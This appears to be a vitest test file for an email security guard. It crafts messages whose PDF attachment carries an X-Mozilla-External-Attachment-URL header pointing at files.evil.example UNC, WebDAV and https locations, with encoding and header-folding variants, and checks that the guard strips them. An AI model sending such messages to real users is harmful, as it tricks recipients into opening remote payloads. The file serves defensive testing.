import { describe, expect, it } from 'vitest';
import { attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';
import { expectStripped } from './strip-check.js';

// Attacker round 62, A62-4: Thunderbird takes any part with an `X-Mozilla-External-Attachment-URL` header for an
// attachment stored elsewhere (what it writes itself when a user detaches a file, and for a feed's enclosure), from
// whoever sent it (mimemoz2.cpp: mime_external_attachment_url). The attachment is listed under the part's own name
// (`invoice.pdf`), and opening it opens the file the URL names (`file://host/share/invoice.js`, a UNC share that
// Windows fetches over SMB or WebDAV) with the system handler, or an `http:` address in the browser: the part's
// content is a decoy. The guard read the part (a harmless PDF) and delivered it.
const stack = useLocalStack();
const kit = attackerKit(stack);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const BODY = PDF.toString('base64');

const external = (url: string, name = 'invoice.pdf'): [Buffer, string] => [
  mail(
    [MIXED],
    withPart(
      `Content-Type: application/pdf; name="${name}"\r\nX-Mozilla-External-Attachment-URL: ${url}\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${BODY}`,
    ),
  ),
  BODY.slice(0, 40),
];

describe('A62-4: a part that Thunderbird opens from elsewhere (X-Mozilla-External-Attachment-URL)', () => {
  attachmentTests(kit, {
    'a UNC share: file://files.evil.example/share/invoice.js': external(
      'file://files.evil.example/share/invoice.js',
    ),
    'a WebDAV share, the name percent-encoded: file://files.evil.example@SSL/dav/invoice%2Ejs': external(
      'file://files.evil.example@SSL/dav/invoice%2Ejs',
    ),
    'a share named like a PDF: file://files.evil.example/share/invoice.pdf': external(
      'file://files.evil.example/share/invoice.pdf',
    ),
    'a folder on a share (Explorer opens it)': external('file://files.evil.example/share/'),
    'an address: https://files.evil.example/invoice': external('https://files.evil.example/invoice'),
    'the header folded, in capitals': [
      mail(
        [MIXED],
        withPart(
          `Content-Type: application/pdf; name="invoice.pdf"\r\nX-MOZILLA-EXTERNAL-ATTACHMENT-URL:\r\n file://files.evil.example/share/invoice.js\r\nContent-Transfer-Encoding: base64\r\n\r\n${BODY}`,
        ),
      ),
      BODY.slice(0, 40),
    ],
  });
  it('ATTACHMENT_ACTION=strip removes the part and its header: the note opens nothing elsewhere', async () => {
    const [message] = external('file://files.evil.example/share/invoice.js');
    const { verdict, delivered } = await kit.inbound(message, { ATTACHMENT_ACTION: 'strip' });
    expect(verdict).toBe('DEFAULT');
    expect(delivered.toString('latin1')).not.toMatch(
      /x-mozilla-external-attachment-url|files\.evil\.example/i,
    );
    expect(delivered.toString('latin1')).not.toContain(BODY.slice(0, 40));
    await expectStripped(message, delivered);
  });
  it('(control) delivers the same PDF without the header', async () => {
    const message = mail(
      [MIXED],
      withPart(
        `Content-Type: application/pdf; name="invoice.pdf"\r\nContent-Disposition: attachment; filename="invoice.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${BODY}`,
      ),
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });
});
